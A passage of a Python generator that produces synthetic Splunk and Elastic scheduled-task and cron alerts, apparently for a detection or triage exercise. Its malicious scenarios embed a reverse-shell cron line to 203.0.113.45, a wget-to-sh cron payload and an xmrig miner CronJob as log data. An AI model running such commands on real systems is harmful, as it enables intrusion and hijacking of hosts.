    emit(lproc(host, t3, "tbrown", "/usr/bin/crontab", "crontab -l", "/usr/bin/bash",
               "/bin/bash -c crontab -l > /tmp/notevil", uid="1014"),
         bad("Unsanctioned Atomic Red Team run (T1053.003 #1, crontab backup before replace) on build-01"))


def m_web02():
    host = "web-02"
    t = at(7, 2, 14)
    sc = "web-02 RCE: reverse-shell cron file /etc/cron.d/.php-sessionclean"
    payload = "*/10 * * * * root bash -c 'bash -i >& /dev/tcp/203.0.113.45/4444 0>&1'"
    cmd = 'sh -c echo "%s" > /etc/cron.d/.php-sessionclean' % payload
    emit(lproc(host, t, "root", "/usr/bin/dash", cmd, "/tmp/.X11-unix/.s/kworkerd", "/tmp/.X11-unix/.s/kworkerd"), bad(sc))
    emit(lfile(host, t + timedelta(milliseconds=9), "root", "/etc/cron.d/.php-sessionclean", "/usr/bin/dash", cmd,
               "/tmp/.X11-unix/.s/kworkerd"), bad(sc))
    t2 = t + timedelta(minutes=4, seconds=12)
    sc2 = "web-02 RCE: systemd service+timer staged in /tmp copied to /etc/systemd/system"
    for ext in ("service", "timer"):
        emit(lfile(host, t2 + timedelta(milliseconds=5 if ext == "timer" else 0), "root",
                   "/etc/systemd/system/systemd-networkd-wait.%s" % ext, "/usr/bin/cp",
                   "cp /tmp/.X11-unix/.s/systemd-networkd-wait.service /tmp/.X11-unix/.s/systemd-networkd-wait.timer "
                   "/etc/systemd/system/", "/usr/bin/dash"), bad(sc2))
    emit(lproc(host, t2 + timedelta(seconds=3), "root", "/usr/bin/systemctl",
               "systemctl enable --now systemd-networkd-wait.timer", "/usr/bin/dash",
               "sh -c systemctl daemon-reload; systemctl enable --now systemd-networkd-wait.timer"), bad(sc2))
    for day, hh in ((7, 3), (8, 3)):
        emit(lproc(host, at(day, hh, 0, 2), "www-data", "/usr/bin/crontab", "crontab /tmp/.X11-unix/.s/ct",
                   "/usr/sbin/cron", "/usr/sbin/cron -f", uid="33"),
             bad("web-02 RCE: www-data watchdog re-installs its crontab from /tmp"))


def m_k8s_miner():
    t = at(10, 2, 51)
    sc = "Stolen ci:deployer token: attacker tests kubectl run with cron payload on build-01"
    cmd = ("kubectl run dbg-7f3c --image=alpine:3.20 --restart=Never -- sh -c \"echo '*/5 * * * * root wget -qO- "
           "http://203.0.113.88/k.sh | sh' >> /etc/crontab; crond -f\"")
    emit(lproc("build-01", t, "jenkins", "/usr/local/bin/kubectl", cmd, "/usr/bin/bash", "bash -i", uid="112"), bad(sc))
    ua = "kubectl/v1.29.0 (windows/amd64) kubernetes/3f7a50f"
    for i, (ns, name) in enumerate((("kube-system", "kube-dns-autoscaler-sync"), ("monitoring", "node-metrics-collector"))):
        emit(k8s(at(10, 3, 12 + 7 * i), "system:serviceaccount:ci:deployer", "198.51.100.23", ua, ns, name,
                 "*/5 * * * *", "docker.io/xmrpool7/xmrig:6.21.0", ["/xmrig", "-o", "pool.203.0.113.99.nip.io:443", "--tls"],
                 CI_GROUPS),
             bad("Stolen ci:deployer token: miner CronJob %s/%s created from 198.51.100.23" % (ns, name)))


def m_gpo():
    t = at(10, 4, 6)
    sc = "GPO abuse: workstation GPO ScheduledTasks.xml written from external 198.51.100.37 with adm_jschulz creds"
    rel = "corp.example.com\\Policies\\%s\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml" % GPO_WKS
    emit(share5145("dc01", t, duser("adm_jschulz"), "198.51.100.37", rel), bad(sc))
    emit(wfile("dc01", t + timedelta(milliseconds=41), duser("adm_jschulz"),
               "C:\\Windows\\SYSVOL\\domain\\Policies\\%s\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml" % GPO_WKS,
               None, pid=4), bad(sc))


# ----------------------------------------------------------------------------------------------
# Scenario plan
# ----------------------------------------------------------------------------------------------

def build_events():
    wd = weekdays()

    def spread(hosts, days=None):
        days = days or wd
        return [(h, rng.choice(days)) for h in hosts]

    def pick(pool, k):
        return sorted(rng.sample(pool, k), key=pool.index)

    for h, d in spread(pick(WKS, 7)):
        b_zoom(h, d)
    for h, d in spread(pick(WKS, 2), wd[6:]):
        b_zoom_upgrade(h, d)
    for h, d in spread(pick(WKS, 11)):
        b_adobe(h, d)
    for h, d in spread(pick(WKS, 5)):
        b_dropbox(h, d)
    for h, d in spread(pick(WKS, 5)):
        b_lenovo_su(h, d)
    for h, d in spread(pick(WKS, 6)):
        b_google_user(h, d)
    for h, d in spread(pick(WKS, 4)):
        b_edge_user(h, d)
    for h, d in spread(pick(WKS, 4)):
        b_firefox(h, d)
    for h, d in spread(pick(WKS, 2), wd[5:]):
        b_firefox(h, d, update=True)
    for h, d in spread(pick(WKS, 2)):
        b_teamviewer_tmp(h, d)
    for h, d in spread(pick(WKS, 4)):
        b_google_job(h, d)
    for h, d in spread(pick(WKS, 7)):
        b_vantage_run(h, d)
    for h, d in spread(pick(WKS + WIN_SERVERS, 2)):
        b_script_install(h, d)
    # management rollout: the MapNetworkDrives policy reaches 14 workstations over the first week
    for h, d in spread(pick(WKS, 14), wd[:5]):
        b_intune_mapdrives(h, d)
    for h in ("wks-dev-006", "wks-dev-014", "wks-dev-021"):
        b_choco(h, rng.choice(wd))
    for h in ["srv-app-01", "srv-app-02", "srv-app-03", "srv-file-01", "jmp-01", "wks-it-001"]:
        b_sccm_cache(h, rng.choice(wd[:4]))
    for h in ["srv-app-01", "srv-app-02", "srv-app-03", "srv-file-01", "srv-sccm-01"]:
        b_sccm_reboot(h, 8)  # Patch Tuesday 2026-11-10
    for h in ("srv-app-01", "srv-app-02"):
        b_admin_backup(h, rng.choice(wd[:3]))
    for h, adm in (("srv-app-02", "adm_backup"), ("srv-app-03", "adm_backup"), ("srv-file-01", "adm_jschulz")):
        b_admin_remote(h, rng.choice(wd), adm)
    for h, adm in (("srv-app-01", "adm_backup"), ("srv-app-02", "adm_backup"), ("srv-app-02", "adm_jschulz"),
                   ("srv-file-01", "adm_backup")):
        b_admin_remote_run(h, rng.choice(wd), adm)
    for h in ("srv-app-01", "srv-app-02", "srv-file-01", "srv-app-02"):
        b_admin_local_run(h, rng.choice(wd))
    for dc, d in (("dc01", 1), ("dc02", 8), ("dc01", 10)):
        b_gpo_local(dc, d)
    # Linux
    pk = [("logrotate_3.21.0-1_amd64.deb", "/etc/cron.daily/logrotate"), ("man-db_2.11.2-2_amd64.deb", "/etc/cron.daily/man-db"),
          ("apt_2.6.1_amd64.deb", "/etc/cron.daily/apt-compat"), ("dpkg_1.21.22_amd64.deb", "/etc/cron.daily/dpkg"),
          ("sysstat_12.6.1-1_amd64.deb", "/etc/cron.d/sysstat"), ("certbot_2.1.0-4_all.deb", "/etc/cron.d/certbot"),
          ("php8.2-common_8.2.24-1~deb12u1_amd64.deb", "/etc/cron.d/php")]
    for h in LINUX:
        for pkg, path in rng.sample(pk, 3):
            if path in ("/etc/cron.d/certbot", "/etc/cron.d/php") and not h.startswith("web"):
                continue
            b_dpkg_cron(h, rng.randrange(14), pkg, path)
    b_admin_cron_file("db-01", 2, "pg-backup", "/opt/ops/cron/pg-backup.cron")
    b_admin_cron_file("build-01", 3, "docker-prune", "/opt/ops/cron/docker-prune.cron")
    b_admin_cron_file("web-01", 9, "app-maintenance", "/opt/ops/cron/app-maintenance.cron")
    b_admin_cron_append("web-01", 10, "15 2 * * * root /usr/local/sbin/rotate-app-logs.sh", "/etc/cron.d/app-maintenance")
    b_admin_cron_append("db-01", 4, "45 3 * * 0 postgres /usr/local/bin/vacuum-all.sh", "/etc/cron.d/pg-backup")
    b_admin_cron_append("build-01", 11, "0 4 * * * root /usr/bin/docker builder prune -af --filter until=72h",
                        "/etc/cron.d/docker-prune")
    for h, d, usr in (("web-01", 1, "deploy"), ("web-02", 3, "deploy"), ("build-01", 4, "jenkins"), ("web-01", 9, "deploy")):
        b_crontab_edit(h, d, usr)
    for h in ("web-01", "web-02", "db-01"):
        b_crontab_list(h, rng.randrange(14))
    for h, d in (("web-01", 2), ("web-02", 2), ("web-01", 9), ("web-02", 9)):
        b_deploy_crontab(h, d)
    for h, d, unit in (("db-01", 1, "restic-backup"), ("web-01", 5, "restic-backup"), ("build-01", 9, "restic-backup")):
        b_admin_timer(h, d, unit)
    for h, svc in (("web-01", "nginx"), ("web-02", "nginx"), ("web-02", "php8.2-fpm"), ("db-01", "postgresql"),
                   ("build-01", "docker")):
        b_restart(h, rng.choice(wd), svc)
    b_admin_at("db-01", 4)
    # weekend: unattended-upgrades, scheduled deploys and a Saturday maintenance window on db-01
    b_dpkg_cron("web-02", 12, "logrotate_3.21.0-1_amd64.deb", "/etc/cron.daily/logrotate")
    b_dpkg_cron("db-01", 13, "sysstat_12.6.1-1_amd64.deb", "/etc/cron.d/sysstat")
    b_deploy_crontab("web-01", 12)
    b_deploy_crontab("web-02", 13)
    b_admin_cron_file("db-01", 12, "pg-repack", "/opt/ops/cron/pg-repack.cron")
    b_restart("db-01", 12, "postgresql")
    # Kubernetes CronJobs from CI / GitOps
    cj = [("reports", "nightly-report", "30 1 * * *", "registry.corp.example.com/reports/nightly-report:1.14.%d"),
          ("billing", "invoice-export", "0 5 * * 1-5", "registry.corp.example.com/billing/invoice-export:3.2.%d"),
          ("web", "sitemap-refresh", "15 */6 * * *", "registry.corp.example.com/web/sitemap:2.0.%d"),
          ("platform", "pg-backup", "0 2 * * *", "registry.corp.example.com/platform/pg-backup:15.6-%d"),
          ("platform", "cert-expiry-check", "0 8 * * *", "registry.corp.example.com/platform/certcheck:0.9.%d"),
          ("web", "cache-warmup", "*/30 * * * *", "registry.corp.example.com/web/cache-warmup:1.3.%d")]
    for i, d in enumerate(wd[:10]):
        ns, name, sched, img = cj[i % len(cj)]
        b_k8s(d, ns, name, sched, img % (i + 1), "kubectl" if i % 3 else "argocd")
    for d in (wd[1], wd[3], wd[6], wd[8], 12, 13):
        ns, name, sched, img = cj[(d * 5) % len(cj)]
        b_k8s(d, ns, name, sched, img % (d + 20), "argocd")

    m_invoice_dropper()
    m_public_dir()
    m_lateral()
    m_atomic_windows()
    m_atomic_linux()
    m_web02()
    m_k8s_miner()
    m_gpo()


# ----------------------------------------------------------------------------------------------
# Rule logic (re-implementation of the match conditions, case-insensitive like the SIEMs)
# ----------------------------------------------------------------------------------------------

SHELLS = ["powershell.exe", "wscript.exe", "cscript.exe", "cmd.exe", "sh.exe", "ksh.exe", "zsh.exe", "bash.exe",
          "scrcons.exe", "pwsh.exe"]


def task_field(content, tag):
    s = content.find("<%s>" % tag)
    if s < 0:
        return ""
    return content[s + len(tag) + 2:content.find("</%s>" % tag, s)]


def splunk_match(ev):
    k, out = ev["kind"], []
    if k == "proc":
        p, n = ev["cmdline"].lower(), ev["name"].lower()
        if n == "schtasks.exe":
            if "/create " in p and "/ru " in p and "system" in p:
                out.append("Windows Schtasks Create Run As System")
            if "/rl " in p and " highest " in p:
                out.append("Windows Scheduled Task with Highest Privileges")
            if "create" in p and " /xml " in p:
                out.append("Windows Scheduled Task Created Via XML")
            if "/create" in p and " /s " in p:
                out.append("Schtasks scheduling job on remote system")
            if " /s " in p and "/run" in p:
                out.append("Scheduled Task Initiation on Remote Endpoint")
            if "/run" in p:
                out.append("Schtasks Run Task On Demand")
            if "/create" in p and any(d in p for d in ("\\users\\public\\", "\\programdata\\", "windows\\temp")):
                out.append("Suspicious Scheduled Task from Public Directory")
            if "shutdown" in p and "/create " in p:
                out.append("Schtasks used for forcing a reboot")
        if n == "at.exe" and "\\\\" in p:
            out.append("Scheduled Task Creation on Remote Endpoint using At")
    elif k == "4698":
        c = ev["content"].lower()
        if any(s in c for s in SHELLS):
            out.append("WinEvent Scheduled Task Created to Spawn Shell")
        if "http" in task_field(ev["content"], "Arguments").lower():
            out.append("Schedule Task with HTTP Command Arguments")
        if "rundll32" in task_field(ev["content"], "Command").lower():
            out.append("Schedule Task with Rundll32 Command Trigger")
        if task_field(ev["content"], "Hidden") == "true":
            out.append("Windows Hidden Schedule Task Settings")
    elif k == "reg":
        if "\\currentversion\\schedule\\configuration" in ev["cmdline"].lower() and "enableat" in ev["cmdline"].lower():
            out.append("Windows Enable Win32 ScheduledJob via Registry")
    elif k == "lfile":
        fp = ev["path"]
        if "/etc/cron" in fp or "/var/spool/cron/" in fp:
            out.append("Linux Add Files In Known Crontab Directories")
        if any(fp.startswith(d) for d in ("/etc/systemd/system", "/lib/systemd/system", "/usr/lib/systemd/system",
                                          "/run/systemd/system")) and fp.endswith(".service"):
            out.append("Linux Service File Created In Systemd Directory")
    elif k == "lproc":
        p, n = ev["cmdline"], ev["name"]
        if any(d in p for d in ("/etc/cron", "/var/spool/cron/", "/etc/anacrontab")) and "echo" in p:
            out.append("Linux Possible Append Cronjob Entry on Existing Cronjob File")
        if n == "crontab" and "crontab " in p and " -e" in p:
            out.append("Linux Edit Cron Table Parameter")
        if n == "crontab" and " -l" in p:
            out.append("Linux Adding Crontab Using List Parameter")
        if n in ("systemctl", "service") and ("systemctl " in p or "service " in p):
            if " start " in p or " enable " in p:
                out.append("Linux Service Started Or Enabled")
            if any(v in p for v in ("restart", "reload", "reenable")):
                out.append("Linux Service Restarted")
        if n in ("at", "atd") or ev["parent_name"] in ("at", "atd"):
            out.append("Linux At Application Execution")
    elif k == "k8s":
        out.append("Kubernetes Cron Job Creation")
    return out


CREATED_EXCL = ["\\CreateExplorerShellUnelevatedTask", "\\Hewlett-Packard\\HPDeviceCheck",
                "\\OneDrive Standalone Update Task-S-1-5-21*", "\\OneDrive Reporting Task-S-1-5-21-*",
                "\\Mozilla\\Firefox Default Browser Agent*", "\\Microsoft\\Windows\\GroupPolicy\\GPUpdate"]
LOCAL_PARENTS = ["cmd.exe", "wscript.exe", "rundll32.exe", "regsvr32.exe", "wmic.exe", "mshta.exe", "cscript.exe",
                 "powershell.exe", "pwsh.exe", "powershell_ise.exe", "wmiprvse.exe", "wsmprovhost.exe", "winrshost.exe"]
SUSP_RUN_IMAGES = ["cscript.exe", "wscript.exe", "powershell.exe", "cmd.exe", "mshta.exe", "rundll32.exe", "regsvr32.exe",
                   "msbuild.exe", "installutil.exe", "regasm.exe", "regsvcs.exe", "msxsl.exe", "control.exe",
                   "explorer.exe", "pwsh.exe", "msiexec.exe"]
CRON_EXCL = ["dpkg", "dockerd", "rpm", "snapd", "yum", "dnf", "crontab", "crond", "puppet", "sed", "perl"]


def elastic_match(ev):
    k, out = ev["kind"], []
    if k == "4698":
        if not ev["subject"][1].endswith("$") and not any(
                fnmatch.fnmatchcase(ev["task_name"].lower(), x.lower()) for x in CREATED_EXCL):
            out.append("A scheduled task was created")
        if ev["client_pid"] == "0":
            out.append("Remote Scheduled Task Creation via RPC")
    elif k == "4702":
        if (not ev["subject"][1].endswith("$") and "microsoft" not in ev["task_name"].lower()
                and ev["subject"][2] not in ("S-1-5-18", "S-1-5-19", "S-1-5-20")):
            out.append("A scheduled task was updated")
    elif k == "tmp_task":
        out.append("Temporarily Scheduled Task Creation")
    elif k == "script_task":
        out.append("Scheduled Task Created by a Windows Script")
    elif k == "proc":
        n, args = ev["name"].lower(), [a.lower() for a in win_args(ev["cmdline"])]
        if (n == "schtasks.exe" and ("/create" in args or "-create" in args) and ev["integrity"] != "system"
                and any(a in args for a in ("/ru", "/sc", "/tn", "/tr", "/f", "/xml"))
                and (ev["parent_name"].lower() in LOCAL_PARENTS or not ev["parent_trusted"])):
            out.append("Local Scheduled Task Creation")
        if n == "at.exe" and any(a.startswith("\\\\") for a in args):
            out.append("At.exe Command Lateral Movement")
        if (ev["parent_name"].lower() == "svchost.exe" and "schedule" in ev["parent_cmdline"].lower()
                and ev["original"].lower() in SUSP_RUN_IMAGES and ev["user"][2] != "S-1-5-18"
                and any(a.startswith(("c:\\users\\", "c:\\programdata\\", "c:\\windows\\temp\\", "c:\\windows\\tasks\\",
                                      "c:\\perflogs\\", "c:\\intel\\")) for a in args)):
            out.append("Suspicious Execution via Scheduled Task")
    elif k == "wfile":
        p = ev["path"].lower()
        if fnmatch.fnmatchcase(p, "?:\\windows\\tasks\\*.job") and "ccleaner" not in p and "dcagentupdater" not in p:
            out.append("Persistence via Scheduled Job Creation")
        if fnmatch.fnmatchcase(p, "?:\\windows\\sysvol\\domain\\policies\\*\\machine\\preferences\\scheduledtasks\\scheduledtasks.xml") \
                and ev["name"].lower() != "dfsrs.exe":
            out.append("Creation or Modification of a new GPO Scheduled Task or Service")
    elif k == "5145":
        if ev["rel"].lower().endswith("scheduledtasks.xml"):
            out.append("Scheduled Task Execution at Scale via GPO")
    elif k == "reg":
        out.append("Scheduled Tasks AT Command Enabled")
    elif k == "lfile":
        p = ev["path"]
        if ev["action"] in ("creation", "rename") and ev["name"] not in CRON_EXCL and not p.endswith((".swp", ".dpkg-new")):
            if (p in ("/etc/cron.allow", "/etc/cron.deny", "/etc/crontab")
                    or p.startswith(("/etc/cron.d/", "/etc/cron.hourly/", "/etc/cron.daily/", "/etc/cron.weekly/",
                                     "/etc/cron.monthly/", "/var/spool/cron/crontabs/"))):
                out.append("Cron Job Created or Modified")
            if p.endswith(".timer") and p.startswith(("/etc/systemd/system/", "/etc/systemd/user/",
                                                      "/usr/local/lib/systemd/system/", "/lib/systemd/system/",
                                                      "/usr/lib/systemd/system/")):
                out.append("Systemd Timer Created")
            if p.startswith("/var/spool/cron/atjobs/"):
                out.append("At Job Created or Modified")
    elif k == "lproc":
        args = lin_args(ev["cmdline"])
        if (ev["name"] == "crontab" and ev["parent_name"] == "cron" and ev["user"] != "root"
                and not any(a in ("-l", "-r", "-e", "-help", "-h") for a in args)):
            out.append("Potential Persistence via Cron Job")
        if ev["name"] == "kubectl" and "run" in args and "--restart=Never" in args and "--" in args \
                and any(a in ("sh", "bash", "dash") for a in args) and "cron" in ev["cmdline"]:
            out.append("Pod or Container Creation with Suspicious Command-Line")
    return out


def win_args(cmd):
    """CommandLineToArgvW-like split (quotes, backslash-quote escapes)."""
    args, cur, inq, has, i = [], "", False, False, 0
    while i < len(cmd):
        c = cmd[i]
        if c == "\\":
            j = i
            while j < len(cmd) and cmd[j] == "\\":
                j += 1
            n = j - i
            if j < len(cmd) and cmd[j] == '"':
                cur += "\\" * (n // 2)
                if n % 2:
                    cur += '"'
                    i = j + 1
                else:
                    i = j
                has = True
                continue
            cur += "\\" * n
            i, has = j, True
            continue
        if c == '"':
            inq, has, i = not inq, True, i + 1
            continue
        if c in " \t" and not inq:
            if has:
                args.append(cur)
            cur, has, i = "", False, i + 1
            continue
        cur, has, i = cur + c, True, i + 1
    if has:
        args.append(cur)
    return args


def lin_args(cmd):
    try:
        return shlex.split(cmd)
    except ValueError:
        return cmd.split()


# ----------------------------------------------------------------------------------------------
# Splunk ES notables
# ----------------------------------------------------------------------------------------------

SPLUNK_HEADER = ["_time", "rule_name", "search_name", "urgency", "severity", "status_label", "owner", "event_id", "dest",
                 "user", "parent_process_name", "parent_process_path", "parent_process", "process_name",
                 "process_path", "process", "process_id", "parent_process_id", "file_path", "src_ip", "TaskName",
                 "objectRef.namespace", "objectRef.name", "requestObject.spec.schedule", "image", "userAgent"]
LEVELS = ["informational", "low", "medium", "high", "critical"]
ANALYSTS = ["akumar", "tsmith", "jlopez"]


def splunk_severity(score):
    return "high" if score >= 70 else "medium" if score >= 40 else "low"


def urgency(sev, host):
    prio = "unknown" if host is None else {"wks": "medium", "dc": "critical"}.get(HOSTS[host]["kind"], "high")
    s = LEVELS.index(sev)
    bump = {"unknown": 0, "low": -1, "medium": 0, "high": 1, "critical": 1}[prio]
    return LEVELS[max(1, min(4, s + bump))]


def triage_state(verdict, day):
    """Workflow state as the SOC left it at export time (2026-11-16 morning)."""
    r = rng.random()
    if day >= 12:
        return ("new", None) if r < 0.8 else ("in_progress", rng.choice(ANALYSTS))
    if verdict == "malicious":
        return ("in_progress", "akumar") if r < 0.6 else ("resolved", rng.choice(["akumar", "tsmith"]))
    if r < 0.55:
        return ("closed", rng.choice(ANALYSTS))
    if r < 0.8:
        return ("resolved", rng.choice(ANALYSTS))
    return ("new", None) if r < 0.93 else ("in_progress", rng.choice(ANALYSTS))


def day_of(ev):
    return (ev["time"].astimezone(CET).date() - START_DAY.date()).days


def user_str(u):
    dom, name, _sid = u
    return "NT AUTHORITY\\SYSTEM" if name.endswith("$") or name == "SYSTEM" else "%s\\%s" % (dom, name)


def check_notes(rule, st, carried):
    if st["verdict"] != "benign":
        return []
    if rule not in st["notes"]:
        raise SystemExit("benign story %r fires %r but gives no note list for it" % (st["scenario"], rule))
    notes = st["notes"][rule]
    bad_notes = [n for n in notes if n not in carried]
    if bad_notes:
        raise SystemExit("story %r: rule %r does not carry notes %r" % (st["scenario"], rule, bad_notes))
    return notes


def make_notable(rule, ev):
    escu_id, score, carried = SPLUNK_RULES[rule]
    notes = check_notes(rule, ev["story"], carried)
    when = ev["time"] + timedelta(minutes=rng.randrange(2, 9), seconds=rng.randrange(60), milliseconds=rng.randrange(1000))
    sev = splunk_severity(score)
    state, owner = triage_state(ev["story"]["verdict"], day_of(ev))
    label = {"new": "New", "in_progress": rng.choice(["In Progress", "Pending"]) if ev["story"]["verdict"] == "benign"
             else "In Progress", "resolved": "Resolved", "closed": "Closed"}[state]
    row = dict.fromkeys(SPLUNK_HEADER, "")
    row.update({
        "_time": fmt_splunk(when), "rule_name": rule, "search_name": "ESCU - %s - Rule" % rule,
        "severity": sev, "urgency": urgency(sev, ev["host"]), "status_label": label, "owner": owner or "unassigned",
        "event_id": "%s@@notable@@%s" % (det_uuid("notable", rule, ev["seq"], upper=True), det_hex("nb", rule, ev["seq"])),
    })
    if ev["host"]:
        row["dest"] = HOSTS[ev["host"]]["fqdn"]
    k = ev["kind"]
    if k == "proc":
        row.update(user=user_str(ev["user"]), parent_process_name=ev["parent_name"], parent_process_path=ev["parent_image"],
                   parent_process=ev["parent_cmdline"], process_name=ev["name"], process_path=ev["image"],
                   process=ev["cmdline"], process_id=str(ev["pid"]), parent_process_id=str(ev["ppid"]))
    elif k == "4698":
        row.update(user=user_str(ev["subject"]), TaskName=ev["task_name"])
    elif k == "reg":
        row.update(user=user_str(ev["user"]), process_name="reg.exe", process_path=ev["image"], process=ev["cmdline"],
                   process_id=str(ev["pid"]))
    elif k in ("lproc", "lfile"):
        row.update(user=ev["user"], process_name=ev["name"], process_path=ev["image"], process=ev["cmdline"],
                   process_id=str(ev["pid"]), parent_process_name=ev["parent_name"], parent_process_path=ev["parent_image"],
                   parent_process=ev["parent_cmdline"] or "", parent_process_id=str(ev["ppid"]))
        if k == "lfile":
            row["file_path"] = ev["path"]
    elif k == "k8s":
        row.update({"user": ev["user"], "src_ip": ev["src_ip"], "objectRef.namespace": ev["ns"], "objectRef.name": ev["name"],
                    "requestObject.spec.schedule": ev["schedule"], "image": ev["image"], "userAgent": ev["ua"]})
    return row, when, dict(verdict=ev["story"]["verdict"], notes=notes, scenario=ev["story"]["scenario"])


# ----------------------------------------------------------------------------------------------
# Elastic alerts
# ----------------------------------------------------------------------------------------------

KIBANA_VERSION = "8.15.3"
EXPORT_TIME = datetime(2026, 11, 16, 8, 30, tzinfo=CET)  # when the analyst exported both files
ALERT_INDEX = ".internal.alerts-security.alerts-default-000001"


def threat_block(entries):
    out = []
    for (tid, tname), sub in entries:
        if sub:
            tech = {"id": "T1053", "name": "Scheduled Task/Job", "reference": "https://attack.mitre.org/techniques/T1053/",
                    "subtechnique": [{"id": sub, "name": SUB[sub],
                                      "reference": "https://attack.mitre.org/techniques/T1053/%s/" % sub.split(".")[1]}]}
        else:
            t_id, t_name = TACTIC_TECH[tid]
            tech = {"id": t_id, "name": t_name, "reference": "https://attack.mitre.org/techniques/%s/" % t_id}
        out.append({"framework": "MITRE ATT&CK",
                    "tactic": {"id": tid, "name": tname, "reference": "https://attack.mitre.org/tactics/%s/" % tid},
                    "technique": [tech]})
    return out


def host_obj(h, full=True):
    H = HOSTS[h]
    if H["kind"] == "linux":
        os_ = {"type": "linux", "family": "debian", "name": "Debian GNU/Linux", "version": "12"}
    else:
        os_ = {"type": "windows", "family": "windows", "name": H["os_name"], "version": "10.0"}
    if not full:
        return {"name": h, "os": {"type": os_["type"]}}
    return {"name": h, "hostname": h, "id": H["id"], "ip": [H["ip"]], "os": os_}


def user_obj(u):
    dom, name, sid = u
    return {"name": name, "domain": dom, "id": sid}


def luser_obj(ev):
    return {"name": ev["user"], "id": ev["uid"]}


def ancestor_id():
    return "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-") for _ in range(20))


def entity_id(host, pid, when):
    return base64.b64encode(("%s-%d-%d" % (HOSTS[host]["id"], pid, int(when.timestamp()))).encode()).decode()


def win_event_obj(ev, code):
    action = {"4698": "scheduled-task-created", "4699": "scheduled-task-deleted", "4702": "scheduled-task-updated"}[code]
    typ = {"4698": ["creation", "admin"], "4699": ["deletion", "admin"], "4702": ["change", "admin"]}[code]
    return {"code": code, "action": action, "category": ["iam", "configuration"], "type": typ,
            "provider": "Microsoft-Windows-Security-Auditing", "outcome": "success", "module": "system",
            "dataset": "system.security", "created": fmt_z(ev["time"] + timedelta(seconds=2)),
            "ingested": fmt_z(ev["time"] + timedelta(seconds=9))}


def ed_fqdn(host):
    return host.upper() + "." + DOMAIN


def winlog_task(ev, code):
    dom, name, sid = ev["subject"]
    content_key = "TaskContentNew" if code == "4702" else "TaskContent"
    ed = {"SubjectUserSid": sid, "SubjectUserName": name, "SubjectDomainName": dom, "SubjectLogonId": ev["logon_id"],
          "TaskName": ev["task_name"], content_key: ev["content"],
          "ClientProcessStartKey": "0" if ev["client_pid"] == "0" else str(rng.randrange(10 ** 15, 6 * 10 ** 15)),
          "ClientProcessId": ev["client_pid"], "ParentProcessId": ev["parent_pid"], "RpcCallClientLocality": "0",
          "FQDN": ed_fqdn(ev["host"])}
    return {"channel": "Security", "computer_name": ed["FQDN"], "event_id": code,
            "provider_name": "Microsoft-Windows-Security-Auditing",
            "provider_guid": "{54849625-5478-4994-A5BA-3E3B0328C30D}", "record_id": ev["record_id"], "version": 1,
            "keywords": ["Audit Success"], "process": {"pid": 712, "thread": {"id": rng.randrange(1000, 9000)}},
            "event_data": ed}


def task_message(ev, code):
    dom, name, sid = ev["subject"]
    title = {"4698": "A scheduled task was created.", "4699": "A scheduled task was deleted.",
             "4702": "A scheduled task was updated."}[code]
    label = "Task New Content" if code == "4702" else "Task Content"
    return ("%s\n\nSubject:\n\tSecurity ID:\t\t%s\n\tAccount Name:\t\t%s\n\tAccount Domain:\t\t%s\n\tLogon ID:\t\t%s\n\n"
            "Task Information:\n\tTask Name: \t\t%s\n\t%s: \t\t%s" % (title, sid, name, dom, ev["logon_id"],
                                                                 ev["task_name"], label, ev["content"]))


def proc_obj(ev):
    args = win_args(ev["cmdline"])
    p = {"name": ev["name"], "executable": ev["image"], "command_line": ev["cmdline"], "args": args,
         "args_count": len(args), "pid": ev["pid"], "entity_id": entity_id(ev["host"], ev["pid"], ev["time"]),
         "pe": {"original_file_name": ev["original"]},
         "code_signature": {"trusted": True, "subject_name": "Microsoft Windows", "status": "trusted"},
         "Ext": {"token": {"integrity_level_name": ev["integrity"], "elevation": ev["integrity"] in ("high", "system")}}}
    if ev.get("cwd"):
        p["working_directory"] = ev["cwd"]
    par = {"name": ev["parent_name"], "executable": ev["parent_image"], "command_line": ev["parent_cmdline"],
           "args": win_args(ev["parent_cmdline"]), "pid": ev["ppid"],
           "entity_id": entity_id(ev["host"], ev["ppid"], ev["time"] - timedelta(seconds=30))}
    if ev["parent_trusted"]:
        par["code_signature"] = {"trusted": True, "subject_name": ev["parent_signer"], "status": "trusted"}
    else:
        par["code_signature"] = {"trusted": False, "exists": False}
    p["parent"] = par
    return p


def lproc_obj(ev):
    args = lin_args(ev["cmdline"])
    p = {"name": ev["name"], "executable": ev["image"], "command_line": ev["cmdline"], "args": args,
         "args_count": len(args), "pid": ev["pid"], "entity_id": entity_id(ev["host"], ev["pid"], ev["time"]),
         "parent": {"name": ev["parent_name"], "executable": ev["parent_image"], "pid": ev["ppid"]}}
    if ev.get("parent_cmdline"):
        p["parent"]["command_line"] = ev["parent_cmdline"]
    return p


def reason(rule, sev, ev, category, extra=""):
    host = ev["host"]
    if "user" in ev and isinstance(ev["user"], tuple):
        uname = ev["user"][1]
    elif "subject" in ev:
        uname = ev["subject"][1]
    else:
        uname = ev.get("user")
    return "%s event%s%sby %s on %s created %s alert %s." % (category, extra, ", " if extra else " ", uname, host, sev,
                                                             rule)


class AlertSink:
    def __init__(self):
        self.docs = []  # (sort_time, seq, doc, gt)

    def add(self, rule, ev, parts, gt, when_alert, workflow):
        """parts: list of (body dict, original_time, ancestors, bb_index or None); first part is the shell when a group."""
        R = ELASTIC_RULES[rule]
        group_id = det_hex("grp", rule, ev["seq"], n=64) if len(parts) > 1 else None
        for body, orig, anc, bb in parts:
            uid = det_hex("alert", rule, ev["seq"], bb if bb is not None else "shell", n=64)
            src = {"@timestamp": fmt_z(when_alert), "kibana.alert.rule.name": rule,
                   "kibana.alert.rule.uuid": det_uuid("kibana-rule", rule), "kibana.alert.rule.rule_id": R["rule_id"],
                   "kibana.alert.rule.type": R["type"],
                   "kibana.alert.rule.category": "Event Correlation Rule" if R["type"] == "eql" else "Custom Query Rule",
                   "kibana.alert.rule.rule_type_id": "siem.eqlRule" if R["type"] == "eql" else "siem.queryRule",
                   "kibana.alert.rule.consumer": "siem", "kibana.alert.rule.producer": "siem",
                   "kibana.alert.rule.version": R["version"], "kibana.alert.rule.false_positives": list(R["fp"]),
                   "kibana.alert.rule.threat": threat_block(R["threat"]), "kibana.alert.rule.tags": list(R["tags"]),
                   "kibana.alert.severity": R["severity"], "kibana.alert.risk_score": R["risk"],
                   "kibana.alert.workflow_status": workflow[0]}
            if workflow[0] != "open":
